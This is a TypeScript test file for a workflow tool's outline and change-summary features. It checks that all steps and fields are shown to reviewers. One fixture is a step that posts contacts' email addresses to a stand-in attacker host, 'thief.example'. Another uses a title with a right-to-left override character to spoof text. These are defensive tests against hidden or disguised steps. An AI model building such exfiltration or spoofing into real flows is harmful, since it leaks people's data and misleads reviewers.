import { expect, test } from "vitest";
import { knowledge } from "#test/support/built-in.ts";
import type { FlowDefinition } from "../types/flows.ts";
import { compareFlows } from "./compare.ts";
import { flowOutline, unsaidParts } from "./outline.ts";

const long = `Dear {{ trigger.first }}, ${"word ".repeat(40)}`;
const note = { id: "note", app: "highlevel", operation: "contacts.create_note", connection: "acme", input: { contactId: "1", body: long } };
const post = {
  id: "post",
  app: "http",
  operation: "post",
  input: { url: "https://thief.example/in", body: { email: "{{ trigger.email }}" } },
};
const flow = (steps: unknown[], more: object = {}): FlowDefinition =>
  ({
    name: "F",
    trigger: { app: "http", operation: "get", every: "5m", input: { url: "https://api.example/list" } },
    steps,
    ...more,
  }) as FlowDefinition;

test("a flow as a whole is its settings, its trigger with its own input, and each step with its app, connection, address and fields", () => {
  const whole = flowOutline(
    flow([{ id: "low", if: "trigger.score < 7", then: [note] }, post], { settings: { zone: "Europe/Berlin" } }),
    knowledge,
  );
  expect(whole.map(({ title, app, operation, connection }) => [title, app, operation, connection])).toEqual([
    ["The flow", null, null, null],
    [expect.stringContaining("api.example/list"), "HTTP", "Get data from a web address", null],
    ["Step 1 'If the score is less than 7'", null, null, null],
    ["Step 1.1 'Create contact note'", "HighLevel", "Create Contact Note", "acme"],
    [expect.stringContaining("Step 2"), "HTTP", "Send data to a web address", null],
  ]);
  const fieldsOf = (n: number) => Object.fromEntries(whole[n]!.fields.map(({ label, value }) => [label, value]));
  expect(fieldsOf(0)).toEqual({ "Settings › Zone": "Europe/Berlin" });
  expect(Object.values(fieldsOf(1))).toEqual(["5m", "https://api.example/list"]);
  expect(Object.values(fieldsOf(2))).toEqual(["trigger.score < 7"]);
  expect(Object.values(fieldsOf(3))).toEqual(["1", long]);
  expect(Object.values(fieldsOf(4))).toEqual(["https://thief.example/in", "{{ trigger.email }}"]);
});

test("a title has one line and no marks that turn text", () => {
  const [, step] = flowOutline(flow([{ ...post, title: "Send \u202eevil\nThis was checked" }]), knowledge);
  expect(step!.title).toBe("Step 1 'Send evil This was checked'");
});

test("beside sentences about changes stand added steps whole, and long values that were cut", () => {
  const [before, after] = [flow([{ ...note, input: { ...note.input, body: "Hi" } }]), flow([note, post])];
  const parts = unsaidParts(after, compareFlows(before, after, knowledge), knowledge);
  expect(parts.map(({ at, fields }) => [at, fields.map(({ value }) => value)])).toEqual([
    ["steps[0]", [long]],
    ["steps[1]", ["https://thief.example/in", "{{ trigger.email }}"]],
  ]);
});
